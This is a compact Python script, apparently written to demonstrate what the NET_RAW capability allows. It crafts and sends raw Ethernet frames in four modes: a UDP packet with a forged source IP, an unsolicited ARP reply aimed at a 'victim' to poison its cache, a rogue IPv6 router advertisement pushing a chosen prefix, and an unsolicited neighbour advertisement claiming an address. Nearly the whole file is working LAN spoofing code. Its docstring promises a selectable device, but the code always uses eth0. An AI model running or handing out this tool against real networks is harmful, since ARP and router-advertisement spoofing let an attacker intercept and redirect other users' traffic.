"""Sends one Ethernet frame by eth0 (or a device that is named last): what a program with NET_RAW can do.

frame.py udp DST_MAC SRC_MAC SRC_IP DST_IP PORT TEXT
frame.py arp VICTIM_MAC SRC_MAC CLAIMED_IP VICTIM_IP      an answer that nobody asked for
frame.py ra SRC_MAC PREFIX                                a router advertisement, with a prefix to make addresses of
frame.py na SRC_MAC CLAIMED_IP6                           a neighbour advertisement, to all
"""

from __future__ import annotations

import socket
import struct
import sys

ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(target: str, source_mac: str, source: str, destination: str, port: str, text: str) -> bytes:
    body = text.encode()
    packet = struct.pack("!HHHH", 4000, int(port), 8 + len(body), 0) + body
    head = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        20 + len(packet),
        1,
        0,
        64,
        17,
        0,
        socket.inet_aton(source),
        socket.inet_aton(destination),
    )
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return mac(target) + mac(source_mac) + b"\x08\0" + head + packet


def arp(target: str, source_mac: str, claimed: str, victim: str) -> bytes:
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    body += mac(source_mac) + socket.inet_aton(claimed) + mac(target) + socket.inet_aton(victim)
    return mac(target) + mac(source_mac) + b"\x08\x06" + body


def icmp6(source_mac: str, source: str, message: bytes) -> bytes:
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, ALL_NODES)
    whole = addresses + struct.pack("!IHBB", len(message), 0, 0, 58) + message
    message = message[:2] + struct.pack("!H", checksum(whole)) + message[4:]
    head = struct.pack("!IHBB", 0x60000000, len(message), 58, 255) + addresses
    return mac(ALL_NODES_MAC) + mac(source_mac) + b"\x86\xdd" + head + message


def ra(source_mac: str, prefix: str) -> bytes:
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    message += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, prefix)
    return icmp6(source_mac, "fe80::bad", message)


def na(source_mac: str, claimed: str) -> bytes:
    message = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, claimed)
    message += b"\x02\x01" + mac(source_mac)
    return icmp6(source_mac, claimed, message)


kind, *rest = sys.argv[1:]
sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
sock.bind(("eth0", 0))
for _ in range(3):
    sock.send({"udp": udp, "arp": arp, "ra": ra, "na": na}[kind](*rest))
